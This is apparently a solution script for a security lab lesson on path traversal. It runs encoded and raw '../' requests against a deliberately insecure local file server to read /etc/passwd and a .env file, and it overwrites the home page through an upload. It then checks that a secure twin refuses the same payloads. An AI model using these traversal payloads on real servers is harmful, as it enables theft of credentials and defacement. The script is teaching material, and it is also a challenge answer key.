"""Lesson "Serving files": every challenge, solved from Python.

Run it with safelab running:  python traversal.py
Each step prints what the file server answered; the lab marks each challenge
solved the moment it sees it done. It replaces the clinic's home page on the
insecure twin: "Reset this lesson" in the app puts it back.
"""

import socket
import sys

import requests

HTTP = "{{http}}"
INSECURE = f"{HTTP}/lab/insecure/files"
SECURE = f"{HTTP}/lab/secure/files"


def check(condition: bool, message: str) -> None:
    """Stops with a message when the lab did not answer as the lesson says."""
    if not condition:
        sys.exit(f"unexpected: {message}")


def raw_get(path: str) -> str:
    """Sends a GET for `path` exactly as written, as netcat would."""
    request = f"GET {path} HTTP/1.1\r\nHost: {{http_host}}\r\nConnection: close\r\n\r\n"
    with socket.create_connection(("{{http_hostname}}", {{http_port}}), timeout=10) as connection:
        connection.sendall(request.encode())
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    return answer.decode(errors="replace")


def main() -> None:
    # 1. A missing file: the error names the server's folder.
    missing = requests.get(f"{INSECURE}/no-such-report.csv", timeout=10)
    check(missing.status_code == 404, f"a missing file answered {missing.status_code}")
    print("leak-path:", missing.text.strip().splitlines()[-1])

    # 2. requests normalises .. away, so the request never reaches the file server...
    normalised = requests.get(f"{INSECURE}/../../../etc/passwd", timeout=10)
    print("requests with ../ got", normalised.status_code, "from", normalised.url)

    # ...but a raw socket sends the path as written.
    passwd = raw_get("/lab/insecure/files/../../../etc/passwd")
    check("root:x:0:0" in passwd, "the raw request did not return /etc/passwd")
    print("read-passwd:", passwd.split("\r\n\r\n", 1)[1].splitlines()[1])

    # 3. An encoded slash gets through requests.
    env = requests.get(f"{INSECURE}/..%2f.env", timeout=10)
    check("DATABASE_URL" in env.text, f"no .env: {env.status_code} {env.text[:80]}")
    print("encoded-traversal:", env.text.splitlines()[1])

    # 4. The same bug in uploads: replace the home page.
    put = requests.put(f"{INSECURE}/uploads/..%2findex.html", data="<h1>Defaced</h1>\n", timeout=10)
    check(put.status_code == 201, f"the upload answered {put.status_code}")
    home = requests.get(f"{INSECURE}/", timeout=10)
    check("Defaced" in home.text, "the home page was not replaced")
    print("overwrite-page:", home.text.strip())

    # 5. The secure twin refuses every one of them, with the same 404.
    for path in ["..%2f.env", "..%2f..%2f..%2fetc%2fpasswd", "%2fetc%2fpasswd", "..%5c.env"]:
        refused = requests.get(f"{SECURE}/{path}", timeout=10)
        check(refused.status_code == 404, f"the secure twin answered {refused.status_code} for {path}")
        print("secure-refuses:", path, refused.status_code, refused.text)
    raw = raw_get("/lab/secure/files/../../../etc/passwd")
    check(raw.startswith("HTTP/1.1 404"), "the secure twin served a raw traversal")
    served = requests.get(f"{SECURE}/motto.txt", timeout=10)
    check(served.status_code == 200, "the secure twin refused an honest request")
    print("and still serves its files:", served.text.strip())


if __name__ == "__main__":
    main()
